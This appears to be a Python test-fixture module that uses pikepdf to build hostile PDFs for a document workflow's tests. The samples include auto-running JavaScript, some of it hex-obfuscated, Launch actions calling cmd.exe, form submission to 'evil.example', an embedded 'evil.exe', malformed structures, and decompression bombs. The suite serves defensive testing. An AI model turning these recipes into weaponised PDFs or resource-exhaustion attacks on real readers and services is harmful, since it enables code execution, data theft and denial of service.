"""PDFs that run, start, send or carry something, that are locked or broken, and that ask for more than they give."""

import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.workflow.hostile.recipes import Made, opening, pdf, script, zeros


def note(**more: object) -> Callable[[Pdf], None]:
    """A PDF whose page has an annotation."""

    def change(made: Pdf) -> None:
        mark = made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9])))
        for name, value in more.items():
            mark[f"/{name}"] = value
        made.pages[0].obj.Annots = Array([mark])

    return change


def carries(made: Pdf) -> None:
    """Puts a file into a PDF."""
    made.attachments["evil.exe"] = b"MZ" + bytes(64)


def named_script(made: Pdf) -> None:
    """A script in the document's name tree."""
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(script())])))


def page_action(made: Pdf) -> None:
    """A script when the page is opened."""
    made.pages[0].obj.AA = Dictionary(O=script())


def form(made: Pdf) -> None:
    """A dynamic form."""
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))


def deep(made: Pdf) -> None:
    """A script two hundred brackets deep."""
    thing: pikepdf.Object = script()
    for _ in range(200):
        thing = Array([thing])
    made.Root.Extra = thing


def hand_made(objects: bytes, start: bytes = b"") -> bytes:
    """A PDF without a proper table of its objects."""
    return b"%PDF-1.7\n" + objects + b"\ntrailer<</Root 1 0 R>>\nstartxref\n" + (start or b"9") + b"\n%%EOF"


def packed_objects(levels: int) -> bytes:
    """A PDF whose objects lie in a stream that swells to 300 MiB; `levels`: how often it is packed."""
    data = zeros(300)
    for _ in range(levels - 1):
        data = zlib.compress(data)
    filters = b"/FlateDecode " * levels
    body = b"%PDF-1.7\n"
    at = len(body)
    body += b"4 0 obj<</Type/ObjStm/N 3/First 20/Length %d/Filter[%s]>>stream\n" % (len(data), filters)
    body += data + b"\nendstream endobj\n"
    table = len(body)
    rows = b"\0\0\0\0\xff" + b"".join(b"\2" + (4).to_bytes(3, "big") + bytes([n]) for n in range(3))
    rows += b"\1" + at.to_bytes(3, "big") + b"\0" + b"\1" + table.to_bytes(3, "big") + b"\0"
    body += b"5 0 obj<</Type/XRef/W[1 3 1]/Size 6/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return body + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % table


HARM: dict[str, Made] = {
    "script.pdf": pdf(lambda made: setattr(made.Root, "OpenAction", script())),
    "script-names.pdf": pdf(named_script),
    "script-page.pdf": pdf(page_action),
    "script-link.pdf": pdf(note(Subtype=Name.Link, A=script())),
    "script-deep.pdf": pdf(deep),
    "script-stream.pdf": pdf(note(Subtype=Name.Link, A=script()), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "script-hex.pdf": pdf(lambda made: setattr(made.Root, "OpenAction", script())).replace(b"/JavaScript", b"/Java#53cript"),
    "launch.pdf": pdf(opening(S=Name.Launch, F=String("cmd.exe"))),
    "launch-link.pdf": pdf(note(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
    "sends.pdf": pdf(opening(S=Name.SubmitForm, F=String("http://evil.example"))),
    "imports.pdf": pdf(opening(S=Name.ImportData, F=String("x.fdf"))),
    "goes-inside.pdf": pdf(opening(S=Name.GoToE)),
    "carries.pdf": pdf(carries),
    "clip.pdf": pdf(note(Subtype=Name.FileAttachment)),
    "film.pdf": pdf(note(Subtype=Name.RichMedia)),
    "space.pdf": pdf(note(Subtype=Name("/3D"))),
    "form.pdf": pdf(form),
    "locked.pdf": pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
    "half-locked.pdf": pdf(encryption=pikepdf.Encryption(owner="o", user="")),
    "pages.pdf": lambda: pdf(pages=10_000),
    "501.pdf": lambda: pdf(pages=501),
    "no-table.pdf": hand_made(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj"),
    "far-table.pdf": hand_made(b"1 0 obj<<>>endobj", b"99999999"),
    "cut.pdf": pdf(pages=3)[:300],
    "no-pages.pdf": pdf(pages=0),
    "brackets.pdf": lambda: hand_made(b"1 0 obj" + b"[" * 200_000 + b"endobj"),
    "objects.pdf": lambda: packed_objects(1),
    "objects-twice.pdf": lambda: packed_objects(2),
}  # fmt: skip
